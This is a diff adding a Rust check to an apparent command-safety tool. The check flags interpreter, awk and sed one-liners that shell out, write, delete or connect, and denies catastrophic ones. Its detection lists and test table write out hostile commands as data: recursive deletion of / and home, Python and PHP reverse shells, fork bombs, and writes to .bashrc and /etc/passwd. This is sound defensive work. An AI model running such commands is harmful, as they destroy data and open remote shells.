@@ -1,0 +1,659 @@
+//! `interpreter-one-liner`: code given on the command line to an interpreter, awk or sed,
+//! scanned for the ways it shells out, writes, deletes or connects.
+
+use std::path::Path;
+
+use super::common::{
+    ask, base, catastrophe, catastrophe_in_code, deny, is_catastrophic_target, is_interpreter,
+    is_secret, is_sensitive_file, prog, text,
+};
+use super::{Check, CheckCtx, Finding, declare_check};
+use crate::analyze::{FlagKind, Unit};
+use crate::policy::{Decision, Risk};
+
+declare_check! {
+    /// **What it flags**: the code of `python -c`, `perl -e`, `ruby -e`, `node -e`/`-p`,
+    /// `php -r`, `deno eval`, `lua -e`, `Rscript -e`, `pwsh -c`, `osascript -e`, of heredocs and
+    /// here-strings fed to an interpreter, of awk programs and sed scripts. Shelling out
+    /// (`os.system`, `subprocess`, `exec(`, `eval(`, `popen`, `system(`, backticks,
+    /// `child_process`), writing or deleting (`open(…, 'w')`, `shutil.rmtree`, `os.remove`,
+    /// `unlink`, `writeFile`), or networking (`socket`, `urllib`, `fetch(`) → ask (high); sed's
+    /// `e`/`w`/`W` commands and `s///e`/`s///w`, awk's `system(`, `| getline`, `print >` → ask
+    /// (high). Denied when the payload shows a catastrophe: a shell string or argument list that
+    /// is one (`os.system('rm -rf /')`, `subprocess.call(['rm','-rf','/'])`), a recursive delete
+    /// API on `/` or the home directory (`shutil.rmtree('/')`, `rmtree("/")`,
+    /// `Deno.removeSync('/', {recursive: true})`), a socket wired to a shell (reverse shell), a
+    /// fork loop, a write to a start-up or account file, or a secret sent over the network.
+    ///
+    /// **Why it is risky**: a one-liner is a program; "python" says nothing about what it does.
+    ///
+    /// **Example**: `python3 -c 'import shutil; shutil.rmtree("/")'` → deny;
+    /// `python3 -c 'import os; os.system("make")'` → ask (high); `python -c 'print(1+1)'` is
+    /// not flagged (interpreters are asked about by the built-in rules).
+    ///
+    /// **Known gaps**: code assembled at run time (`exec(base64.b64decode(…))`, string
+    /// concatenation, `getattr`) is flagged by its markers only; scripts in files are not read.
+    InterpreterOneLiner,
+    "interpreter-one-liner"
+}
+
+/// The code option of each interpreter family.
+fn code_of(u: &Unit) -> Option<(String, String)> {
+    let p = prog(u)?;
+    let w: Vec<&str> = u.args().map(text).collect();
+    let lang = lang_of(p)?;
+    let after = |pred: &dyn Fn(&str) -> bool| -> Option<String> {
+        let mut parts = Vec::new();
+        let mut k = 0;
+        while k < w.len() {
+            if pred(w[k]) {
+                if let Some(n) = w.get(k + 1) {
+                    parts.push((*n).to_owned());
+                }
+                k += 2;
+                continue;
+            }
+            if let Some(v) = w[k]
+                .strip_prefix("--eval=")
+                .or_else(|| w[k].strip_prefix("--expression="))
+            {
+                parts.push(v.to_owned());
+            }
+            k += 1;
+        }
+        (!parts.is_empty()).then(|| parts.join("\n"))
+    };
+    let bundle_ends = |t: &str, c: char| {
+        t.starts_with('-')
+            && !t.starts_with("--")
+            && t.len() >= 2
+            && t.ends_with(c)
+            && t[1..].chars().all(|x| x.is_ascii_alphabetic())
+    };
+    let code = match lang {
+        "python" => after(&|t| bundle_ends(t, 'c')),
+        "perl" | "ruby" => after(&|t| bundle_ends(t, 'e') || bundle_ends(t, 'E')),
+        "node" => after(&|t| matches!(t, "-e" | "--eval" | "-p" | "--print" | "-pe")),
+        "php" => after(&|t| t == "-r"),
+        "deno" => w
+            .iter()
+            .position(|t| *t == "eval")
+            .and_then(|k| w.get(k + 1))
+            .map(|s| (*s).to_owned()),
+        "pwsh" => after(&|t| {
+            let l = t.to_ascii_lowercase();
+            l == "-c" || l == "-command" || l == "-encodedcommand" || l == "-e" || l == "-enc"
+        }),
+        "other" => after(&|t| t == "-e"),
+        "awk" => awk_program(&w),
+        "sed" => sed_script(&w),
+        _ => None,
+    }?;
+    Some((lang.to_owned(), code))
+}
+
+fn lang_of(p: &str) -> Option<&'static str> {
+    let trimmed = p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    Some(match trimmed {
+        "python" | "pypy" => "python",
+        "perl" => "perl",
+        "ruby" | "irb" => "ruby",
+        "node" | "nodejs" | "bun" => "node",
+        "php" => "php",
+        "deno" => "deno",
+        "pwsh" | "powershell" => "pwsh",
+        "lua" | "luajit" | "Rscript" | "osascript" => "other",
+        "awk" | "gawk" | "mawk" | "nawk" => "awk",
+        "sed" | "gsed" => "sed",
+        _ => return None,
+    })
+}
+
+fn awk_program(w: &[&str]) -> Option<String> {
+    let mut k = 0;
+    while k < w.len() {
+        let t = w[k];
+        if matches!(
+            t,
+            "-F" | "-v" | "-i" | "-l" | "--assign" | "--field-separator"
+        ) {
+            k += 2;
+            continue;
+        }
+        if t == "-f" || t.starts_with("--file") {
+            return None;
+        }
+        if t == "--" {
+            return w.get(k + 1).map(|s| (*s).to_owned());
+        }
+        if t.starts_with('-') && t.len() > 1 {
+            k += 1;
+            continue;
+        }
+        return Some(t.to_owned());
+    }
+    None
+}
+
+fn sed_script(w: &[&str]) -> Option<String> {
+    let mut parts = Vec::new();
+    let mut k = 0;
+    let mut first_operand = None;
+    while k < w.len() {
+        let t = w[k];
+        if t == "-e" || t == "--expression" {
+            if let Some(n) = w.get(k + 1) {
+                parts.push((*n).to_owned());
+            }
+            k += 2;
+            continue;
+        }
+        if let Some(v) = t.strip_prefix("--expression=") {
+            parts.push(v.to_owned());
+        } else if t == "-f" || t.starts_with("--file") {
+            return None;
+        } else if !t.starts_with('-') && first_operand.is_none() {
+            first_operand = Some(t.to_owned());
+        }
+        k += 1;
+    }
+    if parts.is_empty() {
+        first_operand
+    } else {
+        Some(parts.join("\n"))
+    }
+}
+
+/// String literals of a program: '…', "…", `…`, in order.
+fn literals(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let chars: Vec<char> = code.chars().collect();
+    let mut k = 0;
+    while k < chars.len() {
+        let q = chars[k];
+        if matches!(q, '\'' | '"' | '`') {
+            let mut s = String::new();
+            let mut j = k + 1;
+            while j < chars.len() && chars[j] != q {
+                if chars[j] == '\\' && j + 1 < chars.len() {
+                    s.push(chars[j + 1]);
+                    j += 2;
+                    continue;
+                }
+                s.push(chars[j]);
+                j += 1;
+            }
+            out.push(s);
+            k = j + 1;
+        } else {
+            k += 1;
+        }
+    }
+    // Ruby `%x{…}`, Perl `qx{…}`/`qx(…)`.
+    for open in ["%x{", "qx{", "qx(", "%x("] {
+        let mut rest = code;
+        while let Some(at) = rest.find(open) {
+            let after = &rest[at + open.len()..];
+            let close = if open.ends_with('{') { '}' } else { ')' };
+            if let Some(end) = after.find(close) {
+                out.push(after[..end].to_owned());
+                rest = &after[end..];
+            } else {
+                break;
+            }
+        }
+    }
+    out
+}
+
+const SHELL_OUT: &[&str] = &[
+    "os.system",
+    "subprocess",
+    "os.popen",
+    "os.exec",
+    "os.spawn",
+    "pty.spawn",
+    "commands.",
+    "exec(",
+    "eval(",
+    "popen",
+    "system(",
+    "system ",
+    "child_process",
+    "execSync",
+    "spawnSync",
+    "spawn(",
+    "Deno.run",
+    "Deno.Command",
+    "Bun.spawn",
+    "shell_exec",
+    "passthru",
+    "proc_open",
+    "pcntl_exec",
+    "qx",
+    "%x",
+    "IO.popen",
+    "Open3",
+    "Kernel.exec",
+    "exec ",
+    "`",
+    "do shell script",
+    "Start-Process",
+    "Invoke-Expression",
+    "iex ",
+    "__import__",
+    "getattr(",
+    "compile(",
+];
+
+const WRITES: &[&str] = &[
+    "open(",
+    "write",
+    "Write",
+    "appendFile",
+    "file_put_contents",
+    "fopen",
+    "shutil.",
+    "os.remove",
+    "os.unlink",
+    "os.rmdir",
+    "os.rename",
+    "os.replace",
+    "unlink",
+    "rmdir",
+    "rename(",
+    "rmtree",
+    "rm_rf",
+    "rm_r",
+    "removeSync",
+    "rmSync",
+    "remove(",
+    "Remove-Item",
+    "chmod",
+    "chown",
+    "symlink",
+    "truncate",
+    "mkdir",
+    "copy",
+    "move",
+];
+
+const NETWORK: &[&str] = &[
+    "socket",
+    "Socket",
+    "urllib",
+    "requests.",
+    "http.client",
+    "httplib",
+    "fetch(",
+    "http.get",
+    "http.request",
+    "https.get",
+    "XMLHttpRequest",
+    "LWP",
+    "HTTP::Tiny",
+    "Net::HTTP",
+    "open-uri",
+    "fsockopen",
+    "curl_exec",
+    "TCPSocket",
+    "Invoke-WebRequest",
+    "Net.WebClient",
+    "/inet/",
+];
+
+const DELETE_TREE: &[&str] = &[
+    "rmtree",
+    "rm_rf",
+    "rm_r",
+    "removeSync",
+    "rmSync",
+    "rmdirSync",
+    "remove_dir_all",
+    "rimraf",
+    "remove_tree",
+    "Remove-Item",
+    "FileUtils.rm",
+    "fs.rm(",
+    "fs.rmdir(",
+    "deleteRecursively",
+    "recursive",
+];
+
+const HOME_EXPR: &[&str] = &[
+    "expanduser(",
+    "Path.home()",
+    "os.homedir()",
+    "process.env.HOME",
+    "ENV['HOME']",
+    "ENV[\"HOME\"]",
+    "$ENV{HOME}",
+    "os.environ['HOME']",
+    "os.environ[\"HOME\"]",
+    "getenv(\"HOME\")",
+    "getenv('HOME')",
+    "Deno.env.get(\"HOME\")",
+    "Dir.home",
+];
+
+/// Scan one program's code. Returns the decision and why.
+fn scan(lang: &str, code: &str, cwd: &Path) -> Option<(Decision, String)> {
+    let has = |list: &[&'static str]| -> Option<&'static str> {
+        list.iter().find(|m| code.contains(**m)).copied()
+    };
+    let lits = literals(code);
+    // Shell strings and argument lists that are catastrophes.
+    for l in &lits {
+        if let Some(c) = catastrophe_in_code(l, cwd) {
+            return Some((
+                Decision::Deny,
+                format!("its code runs a shell command that is {c}"),
+            ));
+        }
+    }
+    for k in 0..lits.len() {
+        if let Some(c) = catastrophe(&lits[k..], cwd) {
+            return Some((Decision::Deny, format!("its code runs {c}")));
+        }
+    }
+    if let Some(api) = has(DELETE_TREE) {
+        let target = lits
+            .iter()
+            .find(|l| is_catastrophic_target(l, cwd) && !l.is_empty() && l.as_str() != "*");
+        if let Some(t) = target {
+            return Some((
+                Decision::Deny,
+                format!("its code deletes `{t}` recursively (`{api}`)"),
+            ));
+        }
+        if let Some(h) = has(HOME_EXPR) {
+            return Some((
+                Decision::Deny,
+                format!("its code deletes the home directory (`{api}`, `{h}`)"),
+            ));
+        }
+    }
+    let net = has(NETWORK);
+    let shell = has(SHELL_OUT);
+    let sock = [
+        "socket",
+        "Socket",
+        "fsockopen",
+        "TCPSocket",
+        "/inet/tcp",
+        "/dev/tcp/",
+        "net.connect",
+        "createConnection",
+    ]
+    .iter()
+    .any(|m| code.contains(m));
+    let execs = [
+        "subprocess",
+        "pty",
+        "dup2",
+        "exec",
+        "/bin/sh",
+        "/bin/bash",
+        "spawn",
+        "proc_open",
+        "shell_exec",
+        "system",
+        "popen",
+        "child_process",
+        "cmd.exe",
+        "`",
+    ]
+    .iter()
+    .any(|m| code.contains(m));
+    if sock && execs || code.contains("/inet/") && (code.contains("|&") || code.contains("system("))
+    {
+        return Some((
+            Decision::Deny,
+            "its code connects a socket to a shell (reverse shell)".to_owned(),
+        ));
+    }
+    if code.contains("fork")
+        && ["while", "for ", "for(", "loop", "until"]
+            .iter()
+            .any(|m| code.contains(m))
+    {
+        return Some((
+            Decision::Deny,
+            "its code forks in a loop (fork bomb)".to_owned(),
+        ));
+    }
+    let writes = has(WRITES).or(
+        if lang == "awk"
+            && (code.contains("print >") || code.contains("printf >") || code.contains(">>"))
+        {
+            Some("print >")
+        } else {
+            None
+        },
+    );
+    if (writes.is_some() || lang == "sed")
+        && let Some(t) = lits.iter().find(|l| is_sensitive_file(l))
+    {
+        return Some((Decision::Deny, format!("its code writes to `{t}`")));
+    }
+    if let Some(n) = net
+        && let Some(s) = lits.iter().find(|l| is_secret(l))
+    {
+        return Some((
+            Decision::Deny,
+            format!("its code reads `{s}` and uses the network (`{n}`)"),
+        ));
+    }
+    if lang == "sed" {
+        return sed_scan(code, cwd);
+    }
+    if lang == "awk" {
+        let m = [
+            "system(",
+            "| getline",
+            "|getline",
+            "|&",
+            "print >",
+            "printf >",
+            ">>",
+            "/inet/",
+            "print |",
+            "printf |",
+        ]
+        .iter()
+        .find(|m| code.contains(**m));
+        return m.map(|m| {
+            (
+                Decision::Ask,
+                format!("the awk program runs commands or writes files (`{m}`)"),
+            )
+        });
+    }
+    if let Some(m) = shell.or(writes).or(net) {
+        return Some((
+            Decision::Ask,
+            format!("its code shells out, writes or connects (`{}`)", m.trim()),
+        ));
+    }
+    None
+}
+
+fn sed_scan(script: &str, cwd: &Path) -> Option<(Decision, String)> {
+    for cmd in script.split([';', '\n']) {
+        let c = cmd.trim_start_matches(|ch: char| {
+            ch.is_ascii_digit() || matches!(ch, ',' | '$' | ' ' | '!' | '{' | '}')
+        });
+        // `e COMMAND`, `w FILE`, `W FILE`.
+        if let Some(rest) = c.strip_prefix('e')
+            && (rest.is_empty() || rest.starts_with(' '))
+        {
+            if let Some(x) = catastrophe_in_code(rest.trim(), cwd) {
+                return Some((Decision::Deny, format!("its `e` command runs {x}")));
+            }
+            return Some((
+                Decision::Ask,
+                "the sed script runs a command (`e`)".to_owned(),
+            ));
+        }
+        for w in ['w', 'W'] {
+            if let Some(rest) = c.strip_prefix(w)
+                && (rest.is_empty() || rest.starts_with(' '))
+            {
+                return Some(sed_write(rest.trim()));
+            }
+        }
+        // `s/a/b/FLAGS` with `e` or `w FILE`.
+        let mut chars = c.chars();
+        if chars.next() == Some('s')
+            && let Some(d) = chars.next()
+            && !d.is_alphanumeric()
+            && d != ' '
+        {
+            let parts: Vec<&str> = c[1 + d.len_utf8()..].splitn(3, d).collect();
+            if parts.len() == 3 {
+                let flags = parts[2];
+                let (f, file) = flags
+                    .split_once('w')
+                    .map_or((flags, None), |(a, b)| (a, Some(b)));
+                if let Some(file) = file {
+                    return Some(sed_write(file.trim()));
+                }
+                if f.contains('e') {
+                    return Some((
+                        Decision::Ask,
+                        "the sed script runs pattern space as a command (`s///e`)".to_owned(),
+                    ));
+                }
+            }
+        }
+    }
+    None
+}
+
+fn sed_write(file: &str) -> (Decision, String) {
+    if is_sensitive_file(file) {
+        (Decision::Deny, format!("the sed script writes to `{file}`"))
+    } else {
+        (Decision::Ask, format!("the sed script writes to `{file}`"))
+    }
+}
+
+/// Heredoc or here-string text fed to the unit, read from the input.
+pub(crate) fn fed_text(cx: &CheckCtx, idx: usize, u: &Unit) -> Option<String> {
+    let a = cx.analysis;
+    let next_start = a
+        .units
+        .get(idx + 1)
+        .map_or(usize::MAX, |n| n.span.start)
+        .max(u.span.end);
+    let flag = a.flags.iter().find(|f| {
+        matches!(f.kind, FlagKind::Heredoc | FlagKind::Herestring)
+            && f.span.start >= u.span.start
+            && f.span.start <= next_start
+    })?;
+    let raw = a.input.get(flag.span.start..flag.span.end)?;
+    if flag.kind == FlagKind::Herestring {
+        return Some(
+            raw.trim_start_matches("<<<")
+                .trim()
+                .trim_matches(['\'', '"'])
+                .to_owned(),
+        );
+    }
+    let body = raw.split_once('\n')?.1;
+    let body = body.rsplit_once('\n').map_or(body, |(b, _)| b);
+    Some(body.to_owned())
+}
+
+impl Check for InterpreterOneLiner {
+    fn id(&self) -> &'static str {
+        Self::ID
+    }
+
+    fn doc(&self) -> &'static str {
+        Self::DOC
+    }
+
+    fn run(&self, cx: &CheckCtx, out: &mut Vec<Finding>) {
+        for (i, u) in cx.analysis.units.iter().enumerate() {
+            let found = code_of(u).or_else(|| {
+                let p = prog(u)?;
+                if !is_interpreter(p) {
+                    return None;
+                }
+                let lang = lang_of(base(p)).unwrap_or("other");
+                fed_text(cx, i, u).map(|t| (lang.to_owned(), t))
+            });
+            let Some((lang, code)) = found else { continue };
+            if let Some((d, why)) = scan(&lang, &code, cx.cwd) {
+                let p = prog(u).unwrap_or("?");
+                out.push(match d {
+                    Decision::Deny => deny(Some(i), u.span, format!("`{p}` one-liner: {why}")),
+                    _ => ask(
+                        Some(i),
+                        u.span,
+                        Risk::High,
+                        format!("`{p}` one-liner: {why}"),
+                    ),
+                });
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::test_support::decisions;
+    use crate::policy::Decision;
+
+    #[test]
+    fn table() {
+        let d = Some(Decision::Deny);
+        let a = Some(Decision::Ask);
+        for (cmd, want) in [
+            ("python -c \"import os; os.system('rm -rf ~')\"", d),
+            ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", d),
+            (
+                "python3 -c 'import subprocess; subprocess.call([\"rm\",\"-rf\",\"/\"])'",
+                d,
+            ),
+            ("perl -MFile::Path -e 'rmtree(\"/\")'", d),
+            ("ruby -e '`rm -rf ~`'", d),
+            ("gawk 'BEGIN{system(\"rm -rf /\")}'", d),
+            ("deno eval \"Deno.removeSync('/', {recursive: true})\"", d),
+            (
+                "node -e \"require('child_process').execSync('rm -rf ~')\"",
+                d,
+            ),
+            (
+                "node <<'EOF'\nrequire('child_process').execSync('rm -rf ~')\nEOF",
+                d,
+            ),
+            (
+                "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\"",
+                d,
+            ),
+            (
+                "php -r '$sock=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+                d,
+            ),
+            ("perl -e \"fork while fork\"", d),
+            ("python3 -c 'import os\nwhile True: os.fork()'", d),
+            ("awk '{print > \"/home/user/.bashrc\"}' x", d),
+            ("sed -n 'w /etc/passwd' x", d),
+            ("python3 -c 'import os; os.system(\"make\")'", a),
+            ("python3 -c 'open(\"out.txt\",\"w\").write(\"x\")'", a),
+            ("awk '{system(\"ls\")}' x", a),
+            ("sed 's/a/b/e' x", a),
+            ("sed '1e date' x", a),
+            ("sed 's/x/y/w out.txt' f", a),
+            ("python -c 'print(1+1)'", None),
+            ("awk '{print $1}' f", None),
+            ("sed -n '1,5p' f", None),
+            ("sed 's/e/w/g' f", None),
+            ("perl -ne 'print if /x/' f", None),
+        ] {
+            assert_eq!(decisions(&super::InterpreterOneLiner, cmd), want, "{cmd}");
+        }
+    }
+}
